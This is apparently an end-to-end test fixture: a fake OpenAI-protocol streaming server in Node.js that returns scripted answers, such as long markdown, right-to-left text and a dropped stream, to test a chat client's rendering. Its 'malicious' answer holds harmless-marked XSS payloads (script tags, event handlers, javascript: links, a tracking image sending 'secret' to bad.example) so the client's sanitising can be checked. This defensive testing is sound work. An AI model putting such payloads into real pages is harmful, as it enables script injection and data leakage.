// A model server with scripted answers, at 60 tokens a second: what no model says on request.
// Run: node e2e/fake-engine.mjs
// It speaks OpenAI's protocol, and the real server uses it as its engine (SERVE_ENGINE=openai).
// A word of the prompt selects the answer.
import { createServer } from "node:http";

const MALICIOUS = `<script>window.hit=1</script><img src="https://bad.example/a.png" onerror="window.hit=1"><iframe src="https://bad.example"></iframe>

![track](https://bad.example/b.png?q=secret) [one](javascript:window.hit=1) [two](JaVaScRiPt:window.hit=1) [three](data:text/html;base64,PHNjcmlwdD4=) <a href="https://bad.example" onclick="window.hit=1">four</a>

<svg onload="window.hit=1"><style>@import "https://bad.example/c.css"</style></svg> ![x][r] **broken [ \`

[r]: https://bad.example/d.png

| a |
|---|
| <form action="https://bad.example"><input autofocus onfocus="window.hit=1"></form> |

The end of the malicious answer.`;
const part = (n) => `## Part ${n}

The ferry left at *nine*, and **${n}** people stood on the deck; it rained. I had a [list](https://ok.example/${n}) with me:

- rope, 3 m
- \`a kettle\`
- one more thing that I had forgotten

> She said so twice.

| what | how many |
|---|---|
| rungs | ${n} |

\`\`\`
for (;;) row()
\`\`\`

`;
const ANSWERS = {
  malicious: { text: MALICIOUS, rate: 200 },
  long: { text: `${Array.from({ length: 9 }, (_, n) => part(n + 1)).join("")}The end of the long answer.`, rate: 60 },
  rtl: {
    text: "שלום לכולם 🛶 זה טקסט מימין לשמאל.\n\nمرحبا بالعالم 👩‍👩‍👧‍👦\n\nThe end of the mixed answer.",
    rate: 60,
  },
  dies: { text: "Half a sentence, and then the engine", rate: 60, dies: true },
  slow: { text: "tick ".repeat(400), rate: 20 },
  facts: { text: "The ferry left at 9:30 with 12 goats on Tuesday.", rate: 200 },
};
let outlines = 0;
/** The answer to a prompt. `echo:` returns what follows it, `who` the system message; each outline is another one. */
function answerTo(messages) {
  const prompt = messages.at(-1).content;
  const echo = prompt.match(/echo:\s*([\s\S]*)/)?.[1];
  if (echo) return { text: echo, rate: 400 };
  if (/\bwho\b/i.test(prompt)) return { text: messages[0].content, rate: 200 };
  if (prompt.includes("section headings")) {
    outlines++;
    return {
      text: ["Rungs", "Rope", "Paint", "Rain"].map((heading) => `- ${heading}, plan ${outlines}`).join("\n"),
      rate: 200,
    };
  }
  return (
    ANSWERS[Object.keys(ANSWERS).find((word) => new RegExp(`\\b${word}\\b`, "i").test(prompt))] ?? {
      text: "As you like.",
      rate: 60,
    }
  );
}
/** Pieces about as long as tokens. */
const splitTokens = (text) => text.match(/\s*\S{1,4}|\s+$/gu) ?? [];
const wait = (ms) => new Promise((done) => setTimeout(done, ms));

/** An event of a streamed chat completion. */
function chunk(fields) {
  const event = { id: "1", object: "chat.completion.chunk", created: 1, model: "remote", ...fields };
  return `data: ${JSON.stringify(event)}\n\n`;
}
const choice = (delta, finish_reason = null) => chunk({ choices: [{ index: 0, delta, finish_reason }] });

const server = createServer(async (request, response) => {
  let body = "";
  for await (const data of request) body += data;
  if (request.method !== "POST") {
    return response.end(JSON.stringify({ object: "list", data: [{ id: "remote", object: "model" }] }));
  }
  const { text, rate, dies } = answerTo(JSON.parse(body).messages);
  const tokens = splitTokens(text);
  response.writeHead(200, { "Content-Type": "text/event-stream" });
  const started = performance.now();
  for (const [n, content] of tokens.entries()) {
    if (response.destroyed) return;
    response.write(choice({ role: "assistant", content }));
    await wait(started + (1000 * (n + 1)) / rate - performance.now()); // by the clock, so that one delay is made up for
  }
  if (dies) return response.destroy();
  response.write(choice({}, "stop"));
  const usage = { prompt_tokens: 1, completion_tokens: tokens.length, total_tokens: 1 + tokens.length };
  response.write(chunk({ choices: [], usage }));
  response.end("data: [DONE]\n\n");
});
server.listen(0, "127.0.0.1", () => console.log(`http://127.0.0.1:${server.address().port}/v1`));
